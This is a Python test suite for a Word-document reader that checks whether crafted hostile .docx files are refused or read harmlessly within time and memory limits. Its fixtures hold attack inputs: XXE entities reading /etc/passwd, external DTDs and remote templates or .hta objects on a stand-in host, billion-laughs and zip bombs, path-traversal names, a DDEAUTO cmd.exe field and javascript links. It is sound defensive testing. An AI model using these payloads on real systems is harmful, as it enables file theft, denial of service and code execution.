"""Files made to hurt: each is refused with a sentence, or read without harm; none takes long."""

import io
import os
import random
import resource
import struct
import time
import zipfile

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from articles import docx
from articles.docx import UnreadableDocumentError, read
from articles.markup import sanitise
from tests.articles.word_files import (
    DECLARED,
    HEADER,
    PACKAGE,
    STYLES,
    document,
    drawing,
    packed,
    para,
    parts,
    picture,
    relation,
    run,
    table,
    word,
)

PROSE = "石桥街道的社区食堂今天开饭，一荤两素十二元，来吃的老人坐满了两间屋子。"
PATIENCE = 5  # seconds for one file, on a busy machine
MEMORY = 200 * 1024  # kilobytes more than before
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def good() -> bytes:
    return word(para("题目"), para(PROSE))


def changed(name: str, content, **more) -> bytes:
    """Return a good file in which one part is another."""
    return packed(parts(para("题目"), para(PROSE), **more) | {name: content})


def xml(inside: str, before: str = "") -> bytes:
    return changed("word/document.xml", f"{HEADER}{before}{document(inside).removeprefix(HEADER)}")


def laughs() -> str:
    rows = ['<!ENTITY a "哈哈哈哈哈哈哈哈哈哈">']
    rows += [
        f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True)
    ]
    return f"<!DOCTYPE w [{''.join(rows)}]>"


def lying(data: bytes, size: int) -> bytes:
    """Return a container whose directory says another size of every part."""
    at, found = 0, bytearray(data)
    while (at := data.find(b"PK\x01\x02", at)) >= 0:
        found[at + 24 : at + 28] = struct.pack("<I", size)
        at += 4
    return bytes(found)


def locked() -> bytes:
    data = bytearray(good())
    for mark, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = 0
        while (at := data.find(mark, at)) >= 0:
            data[at + flags] |= 1
            at += 4
    return bytes(data)


def with_method(method: int) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", method) as container:
        for name, content in parts(para("题目"), para(PROSE)).items():
            container.writestr(name, content)
    return file.getvalue()


def overlapping() -> bytes:
    """Return a container in which a thousand names mean the same bytes."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as container:
        for name, content in parts(para("题目"), para(PROSE)).items():
            container.writestr(name, content)
        container.writestr("word/media/x", b"0" * 1_000_000)
        last = container.filelist[-1]
        for number in range(1000):
            twin = zipfile.ZipInfo(f"word/media/{number}")
            for slot in ("header_offset", "compress_size", "file_size", "CRC", "compress_type"):
                setattr(twin, slot, getattr(last, slot))
            container.filelist.append(twin)
            container.NameToInfo[twin.filename] = twin
        container._didModify = True
    return file.getvalue()


def many_pictures(count: int, *, one_file: bool) -> bytes:
    files = {
        f"image{n}.jpeg": b"\xff\xd8" + bytes([n % 250]) * 40
        for n in range(1 if one_file else count)
    }
    keys = ["rId10"] * count if one_file else [f"rId{10 + n}" for n in range(count)]
    return word(
        para("题目"), para(PROSE), *(para(inside=drawing(key)) for key in keys), pictures=files
    )


def nested(tag: str, depth: int, inner: str = "") -> str:
    return f"<{tag}>" * depth + inner + f"</{tag}>" * depth


def in_tables(depth: int) -> str:
    return "<w:tbl><w:tr><w:tc>" * depth + para("底") + "</w:tc></w:tr></w:tbl>" * depth


def rels(*rows: str) -> str:
    return f'{HEADER}<Relationships xmlns="{PACKAGE}relationships">{"".join(rows)}</Relationships>'


MEGABYTE = b"0" * (1 << 20)
# What a file is made of, and a word of the sentence that refuses it.
REFUSED = {
    "empty": (lambda: b"", "空的"),
    "too large": (lambda: b"PK" + bytes(docx.LARGEST_FILE), "超过"),
    "old doc": (lambda: OLE + bytes(600) + "WordDocument".encode("utf-16-le"), "另存为"),
    "old table": (lambda: OLE + bytes(600) + "Workbook".encode("utf-16-le"), "老式"),
    "locked by Word": (lambda: OLE + bytes(99) + "EncryptedPackage".encode("utf-16-le"), "密码"),
    "locked container": (locked, "密码"),
    "pdf": (lambda: b"%PDF-1.7\n1 0 obj", "PDF"),
    "rtf": (lambda: rb"{\rtf1\ansi hello}", ".rtf"),
    "web page": (lambda: b"\r\n<HTML xmlns:w='x'><body>a</body></html>", "网页"),
    "web archive": (lambda: b"MIME-Version: 1.0\r\nContent-Type: multipart/related", "网页"),
    "picture": (picture, "图片"),
    "plain text": (lambda: "今天开饭。".encode("gb18030"), "不是 Word"),
    "program": (lambda: b"MZ\x90\x00" + bytes(200), "不是 Word"),
    "excel": (lambda: packed({"xl/workbook.xml": "<a/>", "[Content_Types].xml": "<a/>"}), "Excel"),
    "slides": (lambda: packed({"ppt/presentation.xml": "<a/>"}), "幻灯片"),
    "pages": (lambda: packed({"Index/Document.iwa": b"\0"}), "Pages"),
    "open document": (lambda: packed({"mimetype": "x", "content.xml": "<a/>"}), "OpenDocument"),
    "archive": (lambda: packed({"稿件/一.docx": good()}), "压缩包"),
    "an empty archive": (lambda: packed({}), "压缩包"),
    "macros": (lambda: changed("word/vbaProject.bin", OLE), "宏"),
    "cut off": (lambda: good()[:-300], "损坏"),
    "only a beginning": (lambda: b"PK\x03\x04" + os.urandom(300), "损坏"),
    "no text part": (lambda: packed({"word/styles.xml": STYLES}), "损坏"),
    "no body": (lambda: changed("word/document.xml", f"<w:document {DECLARED}/>"), "损坏"),
    "another root": (lambda: changed("word/document.xml", "<html><body>a</body></html>"), "损坏"),
    "broken XML": (lambda: xml("<w:p><w:r>"), "损坏"),
    "binary for XML": (
        lambda: changed("word/document.xml", random.Random(1).randbytes(9999)), "损坏"
    ),
    "unknown encoding": (
        lambda: changed("word/document.xml", '<?xml version="1.0" encoding="x-none"?><a/>'),
        "损坏",
    ),
    "outside entity": (
        lambda: xml(
            "<w:p><w:r><w:t>&x;</w:t></w:r></w:p>",
            '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        ),
        "损坏",
    ),
    "outside document type": (
        lambda: xml(para("字"), '<!DOCTYPE w SYSTEM "http://198.51.100.7/a.dtd">'),
        "损坏",
    ),
    "parameter entity": (
        lambda: xml(para("字"), '<!DOCTYPE w [<!ENTITY % a SYSTEM "http://198.51.100.7/"> %a;]>'),
        "损坏",
    ),
    "billion laughs": (lambda: xml("<w:p><w:r><w:t>&i;</w:t></w:r></w:p>", laughs()), "损坏"),
    "laughs in the styles": (
        lambda: changed("word/styles.xml", f"{laughs()}<w:styles {DECLARED}>&i;</w:styles>"),
        "损坏",
    ),
    "laughs in the relations": (
        lambda: changed("word/_rels/document.xml.rels", f"{HEADER}{laughs()}<a>&i;</a>"),
        "损坏",
    ),
    "zip bomb": (lambda: changed("word/document.xml", MEGABYTE * 30), "复杂"),
    "bomb beside the text": (lambda: changed("docProps/x.bin", MEGABYTE * 201), "超过"),
    "bomb of a picture": (
        lambda: word(para("题目"), para(inside=drawing()), pictures={"a.png": MEGABYTE * 41}),
        "超过",
    ),
    "sizes that lie": (lambda: lying(good(), 30), "损坏"),
    "sizes beyond all": (lambda: lying(good(), 0xFFFFFFF0), "超过"),
    "a thousand names for one part": (overlapping, "超过"),
    "another method": (lambda: with_method(zipfile.ZIP_LZMA), "损坏"),
    "names without end": (
        lambda: packed(parts(para("题")) | {f"word/x{n}": b"" for n in range(2100)}),
        "复杂",
    ),
    "a part twice": (
        lambda: packed([*parts(para("题目"), para(PROSE)).items(), ("word/document.xml", b"<a/>")]),
        "损坏",
    ),
    "many pictures": (lambda: many_pictures(900, one_file=False), "图片超过"),
    "a picture in ten thousand places": (lambda: many_pictures(3000, one_file=True), "图片超过"),
    "deep elements": (lambda: xml(nested("w:ins", 5000)), "复杂"),
    "deep tables": (lambda: xml(in_tables(300)), "复杂"),
    "deep boxes": (lambda: xml(nested("w:sdt", 500, para("字"))), "复杂"),
    "huge table": (lambda: word(para("题"), table(*[("格",) * 60] * 100)), "太长"),
    "elements without end": (lambda: xml("<x/>" * 700_000), "复杂"),
    "words without end": (lambda: word(para("题目"), para("字" * 1_000_000)), "太长"),
    "styles without end": (
        lambda: changed("word/styles.xml", STYLES.replace(
            "</w:styles>",
            '<w:style w:type="paragraph" w:styleId="x"><w:name w:val="y"/></w:style>' * 20_000
            + "</w:styles>",
        )),
        "复杂",
    ),
    "relations without end": (
        lambda: changed("word/_rels/document.xml.rels", rels(*[relation("r", "x", "y")] * 9000)),
        "复杂",
    ),
    "no words": (lambda: word(para(), para("　")), "没有文字"),
}  # fmt: skip

# What does no harm: the piece is as it would be without it.
HARMLESS = {
    "names that climb out": lambda: packed(
        parts(para("题目"), para(PROSE)) | {"../../etc/passwd": b"x", "/etc/x": b"x", "C:\\x": b"x"}
    ),
    "a text that climbs out": lambda: packed(
        parts(para("题目"), para(PROSE))
        | {"_rels/.rels": rels(relation("rId1", "officeDocument", "../../../word/document.xml"))}
    ),
    "a container within": lambda: changed("word/embeddings/a.docx", good()),
    "outside picture": lambda: word(
        para("题目"),
        para(PROSE, inside=drawing("rId40")),
        relations=relation("rId40", "image", "file:///etc/passwd", external=True),
    ),
    "a template from outside": lambda: changed(
        "word/_rels/settings.xml.rels",
        rels(relation("rId1", "attachedTemplate", "http://198.51.100.7/a.dotm", external=True)),
    ),
    "a frame from outside": lambda: word(
        para("题目"),
        para(PROSE),
        '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:x" r:id="rId41"/></w:object></w:r></w:p>',
        relations=relation("rId41", "oleObject", "http://198.51.100.7/a.hta", external=True),
    ),
    "wrong types": lambda: changed("[Content_Types].xml", "<Types/>"),
    "no types": lambda: packed(
        {k: v for k, v in parts(para("题目"), para(PROSE)).items() if "Content" not in k}
    ),
    "a field that runs something": lambda: word(
        para("题目"),
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe'
        '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        f'{run(PROSE)}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
    ),
    "a field that leads astray": lambda: word(
        para("题目"),
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>HYPERLINK '
        '"javascript:alert(1)"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        f'{run(PROSE)}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
    ),
    "markup among the words": lambda: word(
        para("题目"), para(PROSE), para("&lt;script&gt;alert(1)&lt;/script&gt;")
    ),
    "a style map of its own": lambda: changed("mammoth/style-map", "p => script:fresh"),
    "styles that name themselves": lambda: changed(
        "word/numbering.xml",
        f'<w:numbering {DECLARED}><w:abstractNum w:abstractNumId="0"><w:numStyleLink w:val="x"/>'
        '</w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num></w:numbering>',
    ),
    "absurd numbers": lambda: word(
        para("题目"),
        para(PROSE),
        '<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="99999999999"/></w:tcPr><w:p/></w:tc></w:tr>'
        '<w:tr><w:tc><w:tcPr><w:gridSpan w:val="-5"/><w:vMerge/></w:tcPr><w:p/></w:tc></w:tr>'
        "</w:tbl>",
        '<w:p><w:pPr><w:numPr><w:ilvl w:val="9999"/><w:numId w:val="-1"/></w:numPr></w:pPr></w:p>',
        '<w:p><w:r><w:rPr><w:sz w:val="9e9"/></w:rPr><w:sym w:font="x" w:char="zz"/></w:r></w:p>',
    ),
    "marks of our own": lambda: word(para("题目"), para(PROSE), para("\ue0000\ue001\ue0007\ue001")),
    "absurd styles": lambda: changed(
        "word/styles.xml",
        STYLES.replace("Title", "x" * 5000).replace("heading 1", "p[style-name='a'] =&gt; script"),
    ),
    "notes that are not there": lambda: word(
        para("题目"), para(PROSE, inside='<w:r><w:footnoteReference w:id="99"/></w:r>')
    ),
}


def refused_with(data: bytes) -> str:
    with pytest.raises(UnreadableDocumentError) as refusal:
        read(data)
    return str(refusal.value)


def test_there_are_fifty_and_more():
    assert len(REFUSED) + len(HARMLESS) >= 50


@pytest.mark.parametrize("name", REFUSED)
def test_a_file_that_is_no_piece_is_refused_in_a_sentence_at_once(name):
    make, word_of_it = REFUSED[name]
    data, before, started = make(), _memory(), time.monotonic()
    sentence = refused_with(data)
    assert word_of_it in sentence
    assert sentence.endswith("。")
    assert time.monotonic() - started < PATIENCE
    assert _memory() - before < MEMORY


@pytest.mark.parametrize("name", HARMLESS)
def test_what_a_file_brings_besides_does_no_harm(name):
    data, started = HARMLESS[name](), time.monotonic()
    found = read(data)
    assert found.headline == "题目"
    assert PROSE in found.body
    assert found.pictures == ()
    assert "script>" not in found.body.replace("&lt;script&gt;", "").replace("&lt;/script&gt;", "")
    assert "javascript" not in found.body
    assert "<figure" not in found.body
    assert found.body == sanitise(found.body)
    assert time.monotonic() - started < PATIENCE


@pytest.mark.exhaustive
def test_the_largest_file_that_is_taken_is_read_in_seconds():
    """Nearly as many elements as are taken: a hundred times the usual piece."""
    before, started = _memory(), time.monotonic()
    found = read(word(para("题目"), *[para(inside=run("字") * 8)] * 900))
    assert len(found.body) > 900
    assert time.monotonic() - started < 2 * PATIENCE
    assert _memory() - before < MEMORY


def _memory() -> int:
    """Return the most memory this process has ever used, in kilobytes."""
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss


@settings(max_examples=80)
@given(st.data())
def test_a_good_file_with_broken_bytes_is_read_or_refused(data):
    broken = bytearray(PLAIN)
    for _fault in range(data.draw(st.integers(1, 6))):
        at = data.draw(st.integers(0, len(broken) - 1))
        broken[at : at + data.draw(st.integers(0, 3))] = data.draw(st.binary(max_size=4))
    assert holds_or_refuses(bytes(broken))


def holds_or_refuses(data: bytes) -> bool:
    """Say whether a file is read into clean HTML, or refused in a sentence."""
    try:
        found = read(data)
    except UnreadableDocumentError as refusal:
        return str(refusal).endswith("。")
    return found.body == sanitise(found.body)


PLAIN = packed(
    parts(
        para("题目"), para(PROSE), para("一", list_of=1), para(inside=drawing()), table(("格",)),
        pictures={"a.jpeg": picture(40, 30)},
    ),
    stored=True,
)  # fmt: skip

tags = st.sampled_from(sorted(docx.retelling.ELEMENTS))
trees = st.recursive(
    st.just(run("字")),
    lambda inner: st.builds(lambda tag, inside: f"<{tag}>{''.join(inside)}</{tag}>", tags,
                            st.lists(inner, max_size=4)),
    max_leaves=30,
)  # fmt: skip


@settings(max_examples=120)
@given(st.lists(trees, max_size=6))
def test_known_elements_in_any_disorder_are_read_or_refused(blocks):
    assert holds_or_refuses(word(para("题目"), *blocks, para(PROSE)))
